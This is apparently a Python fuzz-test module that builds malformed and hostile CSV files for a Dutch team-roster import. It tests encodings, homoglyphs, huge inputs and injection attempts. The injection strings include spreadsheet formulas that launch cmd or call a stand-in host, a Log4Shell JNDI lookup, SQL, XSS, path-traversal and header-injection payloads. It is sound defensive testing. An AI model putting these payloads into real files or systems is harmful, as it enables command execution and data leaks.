"""CSV that means harm, or that was saved in a way nobody thought of."""
# ruff: noqa: E501 - what means harm is longer than a line

import re
from collections.abc import Sequence
from random import Random

from tests.hostile.kinds import (
    NO_COLUMNS,
    RIGHT,
    TOO_LARGE,
    UNREADABLE,
    WRONG,
    Variants,
    given,
    kind,
)

HEAD = ("e-mail", "naam", "rol", "team", "wtf", "werkdagen", "in team sinds", "tot en met")
# By a name that Python takes for an argument.
COLUMNS = {re.sub("[- ]", "_", title): place for place, title in enumerate(HEAD)}


def row(**cells: str) -> list[str]:
    """A right row, with other cells where they are named, as in `e_mail="x"`."""
    usual = ["noor@x.nl", "Noor Nieuw", "teamlid", "Onderbouw", "0,8", "ma, di", "1-8-2026", ""]
    for name, text in cells.items():
        usual[COLUMNS[name]] = text
    return usual


def csv(*rows: Sequence[str], separator: str = ";", head: Sequence[str] = HEAD) -> str:
    """Every cell in quotes, so that what is in it cannot matter."""
    quoted = (
        separator.join('"' + cell.replace('"', '""') + '"' for cell in cells)
        for cells in (head, *rows)
    )
    return "\r\n".join(quoted) + "\r\n"


def each(texts: Sequence[str], column: str) -> Variants:
    """A list per text, with the text in a column."""
    for number, text in enumerate(texts):
        data = csv(row(**{column: text})).encode("utf-8", "surrogatepass")
        yield f"{column}-{number}", given(data)


@kind()
def encodings(_chance: Random) -> Variants:
    text = csv(row(naam="Zoë d’Angélique Müller"))
    for name in (
        "utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "utf-32-be",
        "utf-7", "cp1252", "latin-1", "iso8859-15", "cp850", "cp437", "mac-roman", "cp037", "cp1250",
        "iso2022-jp", "gb18030", "koi8-r", "punycode",
    ):  # fmt: skip
        yield name, given(text.encode(name, "replace"))


@kind(WRONG)
def garbled(_chance: Random) -> Variants:
    for number, name in enumerate(("Zoë", "André Müller", "Çelik", "Ærø", "Łukasz", "naïef €")):
        yield (
            f"utf-8-as-windows-{number}",
            given(csv(row(naam=name.encode().decode("cp1252", "replace"))).encode()),
        )
    yield "dos-as-windows", given(csv(row(naam="Zo‰")).encode())
    yield "lost", given(csv(row(naam="Zo\ufffd")).encode())
    yield "cut-in-a-letter", given(csv(row(naam="Zoë")).encode() + "mo@x.nl;é".encode()[:-1])
    yield "one-byte-wrong", given(csv(row(naam="Zoë")).encode() + b"\xe9;x\r\n")


@kind()
def broken_bytes(chance: Random) -> Variants:
    whole = csv(*(row(e_mail=f"p{number}@x.nl", naam="Zoë") for number in range(20))).encode()
    for number in range(25):
        data = bytearray(whole)
        for _ in range(chance.randint(1, 30)):
            data[chance.randrange(len(data))] = chance.randrange(256)
        yield str(number), given(bytes(data))


@kind(UNREADABLE)
def nuls(_chance: Random) -> Variants:
    whole = csv(row()).encode()
    for place in (0, 1, 10, len(whole) // 2, len(whole) - 1, len(whole)):
        yield f"at-{place}", given(whole[:place] + b"\0" + whole[place:])
    yield "only", given(b"\0" * 1_000_000)
    yield "every-other", given(b"\0".join(bytes([byte]) for byte in whole))
    yield "wide-with-nul", given("e-mail;naam\nno\0or@x.nl;N".encode("utf-16"))


@kind(WRONG)
def controls(_chance: Random) -> Variants:
    yield from each(
        [f"No{chr(code)}or" for code in (1, 7, 8, 27, 31, 127, 128, 155, 0xE000, 0xFFFE, 0x10FFFF)],
        "naam",
    )
    yield from each([f"Onder{chr(code)}bouw" for code in (2, 27, 0x80)], "team")


@kind()
def quotes(_chance: Random) -> Variants:
    head = "e-mail;naam\r\n"
    for number, body in enumerate(
        ('"a', '"a;b\r\n' * 1000, 'a"b;c', '"a"b;c', '""";"', '"' * 1_000_001, "'a';'b'",
         '"noor@x.nl";"Noor', '“noor@x.nl”;“Noor”', "\\\";\\\"", '"a\\";b"')
    ):  # fmt: skip
        yield str(number), given((head + body).encode())


@kind(RIGHT)
def quoted_line_ends(_chance: Random) -> Variants:
    for number, ending in enumerate(("\n", "\r", "\r\n", "\n\n\n", "\u2028", "\u2029", "\u0085")):
        yield f"name-{number}", given(csv(row(naam=f"Noor{ending}Nieuw")).encode())
        yield f"mail-{number}", given(csv(row(e_mail=f"{ending}noor@x.nl{ending}")).encode())


@kind()
def line_ends(_chance: Random) -> Variants:
    lines = csv(row(), row(e_mail="mo@x.nl")).split("\r\n")
    for number, ending in enumerate(("\n", "\r", "\n\r", "\r\r\n", "\u2028", "\v", "\x1e", "\\n")):
        yield str(number), given(ending.join(lines).encode())


@kind()
def separators(_chance: Random) -> Variants:
    for number, sign in enumerate((";", ",", "\t", "|", ":", " ", "^", "\x1f", "；", ";;", "~")):
        yield f"sign-{number}", given(csv(row(), separator=sign).encode())
        yield f"named-{number}", given(f"sep={sign}\n{csv(row(), separator=sign)}".encode())
    yield "two", given(("e-mail;naam,rol\ttеam\n" + "a;b,c\td\n" * 20).encode())
    yield "only", given(b";,\t" * 600_000)
    yield "named-only", given(b"sep=" * 400_000)


@kind()
def byte_order_marks(_chance: Random) -> Variants:
    mark, text = b"\xef\xbb\xbf", csv(row()).encode()
    yield "twice", given(mark + mark + text)
    yield "many", given(mark * 600_000)
    yield "inside", given(text.replace(b"noor", b"no" + mark + b"or"))
    yield "before-wide", given(mark + text.decode().encode("utf-16"))
    yield "wide-mark-only", given(b"\xff\xfe")
    yield "wide-mark-odd", given(b"\xff\xfe" + text)
    yield "other-mark", given(b"\xfe\xff" + text.decode().encode("utf-16-le"))
    yield "utf-7-mark", given(b"+/v8-" + text)
    yield "half", given(mark[:2] + text)
    yield "wide-surrogate", given("e-mail;n\ud800".encode("utf-16", "surrogatepass"))


@kind(RIGHT)
def marks_of_direction(_chance: Random) -> Variants:
    marks = "\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u061c"
    for number, mark in enumerate(marks):
        yield f"name-{number}", given(csv(row(naam=f"{mark}Noor {mark}Nieuw")).encode())
    for number, mark in enumerate("\u202e\u200f\u2066"):
        yield f"mail-{number}", given(csv(row(e_mail=f"no{mark}or@x.nl")).encode())


@kind(RIGHT)
def invisible(_chance: Random) -> Variants:
    signs = "\u200b\u200c\u200d\u2060\ufeff\u00ad\u180e\u2061\u206a\ufff9\U000e0041"
    for number, sign in enumerate(signs):
        yield f"mail-{number}", given(csv(row(e_mail=f"{sign}no{sign}or@x.nl")).encode())


@kind(WRONG)
def twin_letters_in_addresses(_chance: Random) -> Variants:
    yield from each(
        ["nоor@x.nl", "noor@х.nl", "nοοr@x.nl", "ոoor@x.nl", "noor@x。nl", "noor＠x.nl", "nᴏor@x.nl",
         "noor@ⅹ.nl", "ｎoor@x.nl", "noοr@xn.nl", "noor@x.ոl", "ѕam@x.nl", "sam@ехample.nl",
         "𝐧oor@x.nl", "noor@münchen.de", "nóor@x.nl", "noor@x․nl", "noor@x.nⅼ"],
        "e_mail",
    )  # fmt: skip


@kind(WRONG)
def twin_letters(_chance: Random) -> Variants:
    yield from each(["Nооr", "Dе Wit", "Jаnsen", "Ρeter", "Αnna", "Օscar"], "naam")
    yield from each(["Onderbоuw", "Οnderbouw", "Оnderbouw"], "team")
    yield from each(["teаmlid", "trаiner"], "rol")


FORMULAS = (
    "=1+1", "=cmd|'/c calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1",
    "=HYPERLINK(\"http://x.test?\"&A1)", "=WEBSERVICE(\"http://x.test\")", "=IMPORTXML(\"a\",\"b\")",
    "＝1+1", "＋1", "－1", "＠SUM(1)", "#N/A", "#VERW!", "=DDE(\"cmd\",\"/c\",\"x\")", "\u200b=1+1",
)  # fmt: skip


@kind(WRONG)
def formulas(_chance: Random) -> Variants:
    yield from each(FORMULAS, "naam")
    for column in COLUMNS:
        yield f"in-{column}", given(csv(row(**{column: "=1+1"})).encode())


@kind(NO_COLUMNS)
def formulas_as_headings(_chance: Random) -> Variants:
    for number, text in enumerate(FORMULAS[:5]):
        yield str(number), given(csv(["noor@x.nl", "Noor"], head=(text, "naam")).encode())


@kind(WRONG)
def twice_the_same_address(_chance: Random) -> Variants:
    for number, second in enumerate(
        (
            "noor@x.nl",
            "NOOR@X.NL",
            " noor@x.nl ",
            "no\u200bor@x.nl",
            "Noor@x.nl\n",
            "\ufeffnoor@x.nl",
        )
    ):
        yield f"two-{number}", given(csv(row(), row(e_mail=second)).encode())
        yield f"many-{number}", given(csv(*[row(e_mail=second)] * 499).encode())


@kind()
def who_is_known(_chance: Random) -> Variants:
    for number, address in enumerate(("ada@x.nl", "ADA@x.nl", "ada@x.nl\u200b", "аda@x.nl")):
        yield str(number), given(csv(row(e_mail=address, naam="Iemand Anders")).encode())
        yield f"{number}-away", given(csv(row(e_mail=address, tot_en_met="1-1-2027")).encode())


@kind(RIGHT)
def dates_in_words(_chance: Random) -> Variants:
    yield from each(
        ["1-8-2026", "01/08/2026", "1.8.2026", "2026-08-01", "1 augustus 2026", "1 AUGUSTUS 2026",
         "46235", "1 aug 2026", "1 aug. 2026", "zaterdag 1 augustus 2026", "za 1 aug 2026",
         "2026-08-01T00:00:00", "2026-08-01 00:00:00", "1-8-2026 0:00"],
        "in_team_sinds",
    )  # fmt: skip


@kind(WRONG)
def no_dates(_chance: Random) -> Variants:
    yield from each(
        ["1-8-26", "8/31/2026", "31-2-2026", "00-00-0000", "2026-13-01", "volgend jaar", "1-8", "2026",
         "9999999", "-1", "1e5", "١-٨-٢٠٢٦", "1-8-99999", "August 1, 2026", "1900-01-01", "99999",
         "1-8-2026 09:30", "1--8-2026", "zondag 1 augustus 2026"],
        "in_team_sinds",
    )  # fmt: skip


@kind()
def long_cells(_chance: Random) -> Variants:
    for size in (501, 4_999, 5_001, 131_071, 131_073, 1_900_000):
        for sign in ("x", " ", "é", "\n", "😀", "a."):
            text = csv(row(naam=sign * (size // len(sign.encode())))).encode()
            yield f"{size}-{ord(sign[0])}", given(text)


@kind()
def many_columns(_chance: Random) -> Variants:
    for count in (61, 1_000, 100_000, 900_000):
        yield f"empty-{count}", given(b"e-mail" + b";" * count + b"\nnoor@x.nl")
    for count in (61, 1_000, 20_000):
        heads = ";".join(f"kolom {number}" for number in range(count))
        yield f"headed-{count}", given(f"e-mail;{heads}\nnoor@x.nl".encode())
    yield "long-heads", given(";".join(["e-mail", *["k" * 4_000] * 59]).encode() + b"\nnoor@x.nl")


@kind("too_many_rows", TOO_LARGE)
def many_rows(_chance: Random) -> Variants:
    for count in (502, 5_000, 20_000, 100_000):
        rows = "".join(f"p{number}@x.nl\n" for number in range(count))
        yield str(count), given(b"e-mail\n" + rows.encode())
    yield "1000000", lambda: b"e-mail\n" + b"".join(b"p%d@x.nl\n" % n for n in range(1_000_000))
    yield "1000000-full", lambda: csv(row()).encode() * 1_000_000
    yield "empty", given(b"e-mail\n" + b"\n" * 1_900_000)
    yield "blank", given(b"e-mail\n" + b";;\n" * 600_000)
    yield "one-sign", given(b"e-mail\n" + b"a\n" * 900_000)
    yield "spaces", given(b"e-mail\n" + b" \n" * 900_000)
    yield "zero-width", given(b"e-mail\n" + "\u200b\n".encode() * 400_000)


@kind()
def headings(_chance: Random) -> Variants:
    body = ["noor@x.nl"] * 3
    for number, head in enumerate(
        (
            ("e-mail", "e-mail", "naam"), ("mail", "naam", "bsn"), ("naam", "rol", "team"),
            ("e-mail", "naam", "naam "), ("E-MAIL*", "NAAM:", "rol?"), ("e\nmail", "naam", "rol"),
            ("", "", ""), ("e-mail", "", ""), ("e-mail" * 400, "naam", "rol"),
            ("((((((((" * 500, "e-mail", "naam"), ("e-mail", "<script>", "\u202enaam"),
            ("e-mail", "sofi-nummer", "naam"), ("e-mail", "Burgerservicenummer", "naam"),
        )
    ):  # fmt: skip
        yield str(number), given(csv(body, head=head).encode())
    yield "eleventh-row", given(b"x\n" * 10 + csv(row()).encode())


@kind(WRONG)
def numbers(_chance: Random) -> Variants:
    yield from each(
        ["9", "1,3", "1e9", "-0,5", "0,8,8", "NaN", "Infinity", "½", "٠٫٨", "0x1", "9" * 400,
         "0," + "9" * 9, "1/2", "80 procent", "100%%", "1_0"],
        "wtf",
    )  # fmt: skip


@kind(WRONG)
def bait_for_patterns(_chance: Random) -> Variants:
    yield from each(
        ["a." * 240, "a" * 300 + "@", "@" * 400, "a@" + "b-" * 150, "a@" + "a." * 120, ("a" * 62 + ".") * 7,
         "a@" + "-" * 300 + ".nl", "!" * 480],
        "e_mail",
    )  # fmt: skip
    yield from each(
        ["ma t/m " * 70, "x - " * 120, "ma" * 250, "ma.t/m." * 70, ", " * 240, "t/m" * 160,
         "tot en met " * 40],
        "werkdagen",
    )  # fmt: skip
    yield from each(["9" * 500, "1-" * 240, "1 " * 240, "1 augustus " * 40], "tot_en_met")
    yield from each(["123456782", "1234 56 782", "9" * 480], "naam")


@kind()
def markup(_chance: Random) -> Variants:
    texts = (
        "<script>alert(1)</script>", "{{ 7*7 }}", "{% debug %}", "#eval(\"1\")", "'; DROP TABLE x;--",
        "${jndi:ldap://x.test/a}", "%s%n%x", "../../etc/passwd", "a\r\nBcc: x@x.test", "\"><img src=x>",
        "]]>", "&amp;&lt;", "http://x.test", "\\u0000", "<!DOCTYPE a>",
    )  # fmt: skip
    yield from each(texts, "naam")
    yield from each(texts, "e_mail")
    yield from each(texts[:5], "team")


@kind()
def half_signs(_chance: Random) -> Variants:
    yield from each(["No\ud800or", "\udfff", "\ud83d Noor", "\udc00\ud800"], "naam")
    yield "overlong", given(csv(row()).encode().replace(b"Noor", b"\xc0\xaf\xc0\x80"))
    yield "five-bytes", given(csv(row()).encode().replace(b"Noor", b"\xf8\x88\x80\x80\x80"))


@kind()
def strange_letters(_chance: Random) -> Variants:
    yield from each(
        ["😀", "👩‍👩‍👧‍👦 Noor", "N" + "\u0301" * 300, "\u0301Noor", "Ǆ", "ﬁeke", "ß", "İ", "ı", "ſ", "\u3164",
         "\u115f", "名前", "نور", "נור", "Ññ", "\u2800", "\u00a0", "\u3000Noor"],
        "naam",
    )  # fmt: skip


@kind(WRONG)
def many_in_one_cell(_chance: Random) -> Variants:
    many = ";".join(f"t{number}" for number in range(120))
    for column in ("team", "rol"):
        rows = [row(e_mail=f"p{n}@x.nl", **{column: many}) for n in range(490)]
        yield column, given(csv(*rows).encode()[:1_999_999])
